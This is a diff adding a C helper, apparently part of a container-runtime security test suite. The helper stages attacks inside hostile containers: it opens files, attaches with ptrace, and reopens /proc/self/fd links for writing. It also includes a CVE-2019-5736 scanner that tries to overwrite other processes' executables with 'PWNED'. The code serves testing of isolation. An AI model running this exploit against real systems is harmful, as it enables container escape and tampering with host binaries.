@@ -1,0 +1,165 @@
+/* attack: the static attacker staged into hostile containers (busybox has no way to open a file
+ * O_PATH, reopen it through /proc/self/fd or ptrace). Every verb prints one result line per
+ * attempt, "ok ..." or "err ERRNO-NAME ...", so that the test reads what the kernel said.
+ *
+ *   attack open PATH rw|ro|path   open PATH with that mode
+ *   attack ptrace PID             PTRACE_ATTACH (then detach)
+ *   attack reopen FD TRIES        reopen /proc/self/fd/FD for writing (retrying while ETXTBSY,
+ *                                 i.e. while another process still runs the file) and write
+ *   attack watch STOPFILE         CVE-2019-5736 scanner: for every process that appears, try to
+ *                                 open its exe for writing and keep an O_PATH fd of it; once
+ *                                 STOPFILE exists, reopen each kept fd for writing.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define MAX_PIDS 4096
+
+static const char *name(int e) {
+    const char *n = strerrorname_np(e);
+    return n ? n : "E?";
+}
+
+static int open_mode(const char *path, const char *mode) {
+    int flags = !strcmp(mode, "rw") ? O_WRONLY : !strcmp(mode, "path") ? O_PATH : O_RDONLY;
+    int fd = open(path, flags | O_CLOEXEC);
+    if (fd < 0) {
+        printf("err %s open %s %s\n", name(errno), mode, path);
+        return 1;
+    }
+    if (!strcmp(mode, "ro")) {
+        char buf[64];
+        ssize_t n = read(fd, buf, sizeof buf);
+        if (n < 0)
+            printf("err %s read %s\n", name(errno), path);
+        else
+            printf("ok open %s %s read %zd\n", mode, path, n);
+    } else {
+        printf("ok open %s %s\n", mode, path);
+    }
+    close(fd);
+    return 0;
+}
+
+static int do_ptrace(pid_t pid) {
+    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
+        printf("err %s ptrace %d\n", name(errno), pid);
+        return 1;
+    }
+    waitpid(pid, NULL, __WALL);
+    ptrace(PTRACE_DETACH, pid, 0, 0);
+    printf("ok ptrace %d\n", pid);
+    return 0;
+}
+
+/* The write of the classic attack: the O_PATH fd names the file, a fresh open of its magic link
+ * gets a writable description once no process runs it any more. */
+static int reopen_and_write(int fd, int tries, const char *label) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    for (int i = 0; i < tries; i++) {
+        int w = open(path, O_WRONLY | O_CLOEXEC);
+        if (w >= 0) {
+            ssize_t n = write(w, "PWNED", 5);
+            printf("ok write %s wrote %zd\n", label, n);
+            close(w);
+            return 0;
+        }
+        if (errno != ETXTBSY || i == tries - 1) {
+            printf("err %s write %s\n", name(errno), label);
+            return 1;
+        }
+        usleep(20000);
+    }
+    return 1;
+}
+
+static int same_file(int fd, const struct stat *a) {
+    struct stat b;
+    return fstat(fd, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
+}
+
+static int watch(const char *stopfile) {
+    static char seen[MAX_PIDS];
+    int held_fd[64], held_pid[64], held = 0;
+    struct stat self, busybox;
+    stat("/proc/self/exe", &self);
+    stat("/bin/busybox", &busybox);
+    printf("ready\n");
+    fflush(stdout);
+    while (access(stopfile, F_OK) != 0) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid >= MAX_PIDS || seen[pid] || pid == getpid())
+                continue;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            int fd = open(path, O_PATH | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno == ENOENT)
+                    continue; /* a kernel thread, or gone: nothing to attack */
+                printf("err %s grab %d\n", name(errno), pid);
+                seen[pid] = 1;
+                continue;
+            }
+            seen[pid] = 1;
+            if (same_file(fd, &self) || same_file(fd, &busybox)) {
+                close(fd);
+                continue;
+            }
+            char target[256] = "";
+            ssize_t n = readlink(path, target, sizeof target - 1);
+            if (n > 0)
+                target[n] = 0;
+            printf("ok grab %d %s\n", pid, target);
+            int w = open(path, O_WRONLY | O_CLOEXEC);
+            if (w >= 0) {
+                printf("ok openw %d %s\n", pid, target);
+                close(w);
+            } else {
+                printf("err %s openw %d\n", name(errno), pid);
+            }
+            if (held < 64) {
+                held_fd[held] = fd;
+                held_pid[held++] = pid;
+            } else {
+                close(fd);
+            }
+            fflush(stdout);
+        }
+        if (d)
+            closedir(d);
+    }
+    for (int i = 0; i < held; i++) {
+        char label[32];
+        snprintf(label, sizeof label, "pid%d", held_pid[i]);
+        reopen_and_write(held_fd[i], 250, label);
+    }
+    printf("done\n");
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (argc == 4 && !strcmp(argv[1], "open"))
+        return open_mode(argv[2], argv[3]);
+    if (argc == 3 && !strcmp(argv[1], "ptrace"))
+        return do_ptrace(atoi(argv[2]));
+    if (argc == 4 && !strcmp(argv[1], "reopen"))
+        return reopen_and_write(atoi(argv[2]), atoi(argv[3]), "self");
+    if (argc == 3 && !strcmp(argv[1], "watch"))
+        return watch(argv[2]);
+    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES | watch STOP\n");
+    return 2;
+}
